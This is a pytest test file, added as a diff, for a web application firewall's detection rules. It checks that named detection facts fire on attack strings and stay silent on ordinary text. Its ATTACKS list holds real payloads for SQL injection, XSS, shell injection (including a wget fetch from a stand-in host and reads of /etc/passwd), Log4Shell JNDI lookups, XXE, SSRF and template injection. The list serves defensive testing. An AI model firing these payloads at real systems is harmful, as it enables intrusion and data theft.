@@ -1,0 +1,208 @@
+"""Facts: what each says of attacks, what none says of honest text, and that looking is cheap and safe."""
+
+import time
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from bascule.waf.logic.facts import ALL, FACTS, facts_of, facts_with_evidence, nominate
+
+ATTACKS = [
+    (b"1 UNION SELECT null,null--", "sql.union_select"),
+    (b"1/**/union/**/select/**/1", "sql.union_select"),
+    (b"1;DROP TABLE users--", "sql.stacked_statement"),
+    (b"1;DROP TABLE users--", "sql.change_schema"),
+    (b"x' OR 'a'='a", "sql.tautology"),
+    (b"1) or 17=17 -- ", "sql.tautology"),
+    (b"' or 1 like 1#", "sql.tautology"),
+    (b"' AND 3=4--", "sql.constant_comparison"),
+    (b"admin'--", "sql.comment_tail"),
+    (b"1 and sleep(5)", "sql.time_delay"),
+    (b"';waitfor delay '0:0:5'--", "sql.time_delay"),
+    (b"(select table_name from information_schema.tables)", "sql.schema_table"),
+    (b"extractvalue(1,concat(0x7e,version()))", "sql.error_call"),
+    (b"';exec master..xp_cmdshell 'dir'", "sql.system_call"),
+    (b"' || (select 1)", "sql.quote_then_logic"),
+    (b"<script>alert(1)</script>", "html.script_tag"),
+    (b'"><img src=x onerror=alert(1)>', "html.event_in_tag"),
+    (b'" autofocus onfocus=alert(1) x="', "html.event_handler"),
+    (b"java\tscript:alert(1)", "html.script_url"),
+    (b"';alert(1);//", "js.dialog_call"),
+    (b"+ADw-script+AD4-alert(1)", "html.script_tag"),
+    (b"; cat /etc/passwd", "shell.command_after_separator"),
+    (b"$(wget http://x.example/a)", "shell.substitution"),
+    (b"a|c'a't${IFS}/etc/passwd", "shell.command_with_target"),
+    (b"() { :;}; /bin/bash -c id", "shell.shellshock"),
+    (b"powershell -enc AAAA", "shell.powershell"),
+    (b"../../../../etc/passwd", "path.climbs_far"),
+    (b"..%252f..%252fetc%252fpasswd", "path.climbs_twice"),
+    (b"/etc/./passwd", "path.unix_secret"),
+    (b"c:\\windows\\win.ini", "path.windows_secret"),
+    (b"php://filter/convert.base64-encode/resource=x", "path.wrapper"),
+    (b"/.git/config", "path.dot_file"),
+    (b"/shop.jsp.bak", "path.backup_copy"),
+    (b"{{7*7}}", "template.arithmetic"),
+    (b"{{''.__class__.__mro__}}", "template.python_internals"),
+    (b"${T(java.lang.Runtime).getRuntime().exec('id')}", "template.java_internals"),
+    (b"${jndi:ldap://x.example/a}", "template.jndi"),
+    (b"${${lower:j}ndi:ldap://x.example/a}", "template.jndi"),
+    (b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "xml.external_entity"),
+    (b"http://169.254.169.254/latest/meta-data/", "ssrf.cloud_metadata"),
+    (b"http://0x7f000001/", "ssrf.odd_number_address"),
+    (b"http://user@[::1]:80/", "ssrf.loopback"),
+    (b"gopher://10.0.0.1:6379/_x", "ssrf.odd_scheme"),
+    (b"<?php system($_GET[1]);", "code.php_tag"),
+    (b'O:4:"User":1:{s:4:"name";}', "code.php_object"),
+    (b"rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==", "code.java_object"),
+    (b"__import__('os').system('id')", "code.python_call"),
+    (b"require('child_process').exec('id')", "code.node_call"),
+    (b'{"$ne":null}', "nosql.operator"),
+    (b"user[$ne]", "nosql.bracket_operator"),
+    (b"';return true;//", "nosql.where_code"),
+    (b"*)(uid=*))(|(uid=*", "ldap.leaves_filter"),
+    (b"' or count(//user)=1 or 'a'='b", "xpath.function"),
+    (b"%0d%0aSet-Cookie: a=b", "http.header_after_line_end"),
+    (b"x@y.example%0abcc: z@y.example", "http.mail_header"),
+    (b"__proto__", "http.prototype_pollution"),
+    (b'<!--#exec cmd="id" -->', "http.server_side_include"),
+    (b"=cmd|' /c calc'!A0", "http.formula"),
+    (b"sqlmap/1.7", "scanner.user_agent"),
+]
+
+HONEST = [
+    b"O'Brien and sons",
+    b"Please select the best of the union, drop me a line or update your profile",
+    b"rock 'n' roll, and then 8 or 9 more",
+    b"Tom & Jerry; cats and dogs",
+    b"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/115.0.0.0 Safari/537.36",
+    b"/static/js/main.9f8e7d6c.chunk.js",
+    b"2023-07-01T12:00:00.000Z",
+    b"9f8e7d6c-5b4a-3928-1706-f5e4d3c2b1a0",
+    b"eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.c2lnbmF0dXJl",
+    b"GA1.2.1234567890.1663160894",
+    b"the path to the file is in the manual",
+    b"Who am I? I am the cat; then I sat down.",
+    b"**bold** _italic_ [link](/docs/a.html) `code`",
+    b"50% off - today only!",
+    b"M\xc3\xbcller & S\xc3\xb6hne GmbH",
+    b"^[a-z]+\\d{2,3}$",
+]
+
+
+def test_names_are_unique_and_told_in_words() -> None:
+    assert len(set(FACTS)) == len(FACTS)
+    assert all(fact.says for fact in ALL)
+
+
+@pytest.mark.parametrize(("value", "fact"), ATTACKS)
+def test_attacks_show_their_facts(value: bytes, fact: str) -> None:
+    assert fact in facts_of(value, "header:user-agent" if fact == "scanner.user_agent" else "query")
+    assert nominate([b"hello", value, b"world"]) == [value]
+
+
+@pytest.mark.parametrize("value", HONEST)
+def test_honest_text_has_no_facts(value: bytes) -> None:
+    assert facts_of(value, "query") == frozenset()
+
+
+def test_mathematics_reads_a_little_like_a_condition() -> None:
+    assert facts_of(b"If x > 3 and y < 4 then x + y = 7", "query") == {"sql.number_then_logic"}
+
+
+def test_an_address_alone_is_no_reason_to_look() -> None:
+    assert facts_of(b"https://www.example.com/a?b=c", "query") == {"ssrf.url_value"}
+    assert nominate([b"https://www.example.com/a?b=c", b"x"]) == []
+
+
+def test_places_decide_where_they_matter() -> None:
+    assert "path.script_upload" in facts_of(b"a.php", "file")
+    assert facts_of(b"/index.php", "path") == frozenset()
+    assert "path.absolute" not in facts_of(b"/var/log/x", "path")
+
+
+def test_evidence_tells_where_and_how() -> None:
+    found = {name: (text, how) for name, text, how in facts_with_evidence(b"%3Cscript%3E", "query")}
+    assert found["html.script_tag"] == (b"<script>", ("url",))
+    assert {"enc.url"} <= facts_of(b"%3Cscript%3E", "query")
+    assert {"enc.double_url", "enc.layers"} <= facts_of(b"%253Cscript%253E", "query")
+
+
+@settings(deadline=None)
+@given(st.lists(st.binary(max_size=60).filter(lambda value: b"\n" not in value), max_size=8))
+def test_what_is_not_nominated_has_no_facts_worth_a_look(values: list[bytes]) -> None:
+    chosen = nominate(values)
+    for value in values:
+        if value not in chosen:
+            assert facts_of(value, "query") <= {"ssrf.url_value", "path.absolute"}
+
+
+_PIECES = [
+    b"' or ",
+    b"1=1",
+    b"--",
+    b"/*",
+    b"*/",
+    b"<a ",
+    b"onx=",
+    b"../",
+    b"%2e",
+    b";id",
+    b"${",
+    b"}",
+    b"\\",
+    b"&lt;",
+    b"(",
+    b"=",
+]
+
+
+@settings(deadline=None)
+@given(st.lists(st.sampled_from(_PIECES), max_size=5), st.lists(st.sampled_from(_PIECES), max_size=5))
+def test_neighbours_do_not_hide_each_other(one: list[bytes], other: list[bytes]) -> None:
+    values = [b"".join(one), b"".join(other)]
+    chosen = nominate(values)
+    for value in values:
+        if value not in chosen:
+            assert facts_of(value, "query") <= {"ssrf.url_value", "path.absolute"}
+
+
+@settings(deadline=None)
+@given(st.binary(max_size=400), st.sampled_from(["path", "query", "file", "header:x-a", "body"]))
+def test_never_raises_and_knows_only_known_names(value: bytes, place: str) -> None:
+    assert facts_of(value, place) <= set(FACTS)
+
+
+@pytest.mark.parametrize(
+    "piece",
+    [
+        b"/*",
+        b"'",
+        b"' or ",
+        b"%25",
+        b"&#x3c;",
+        b"\\",
+        b"char(",
+        b"<a ",
+        b"1=1 or ",
+        b"(",
+        b"{{",
+        b"$IFS",
+        b"QUFB",
+        b"0x41",
+        b"not ",
+    ],
+)
+def test_time_is_linear(piece: bytes) -> None:
+    text = piece * (1 << 16)
+
+    def cost(size: int) -> float:
+        best = 1e9
+        for _ in range(3):
+            start = time.process_time()
+            facts_of(text[:size], "query")
+            best = min(best, time.process_time() - start)
+        return best
+
+    facts_of(b"' or 1=1", "query")
+    assert cost(1 << 16) < 24 * cost(1 << 13) + 0.05  # eight times the length; quadratic would be 64 times
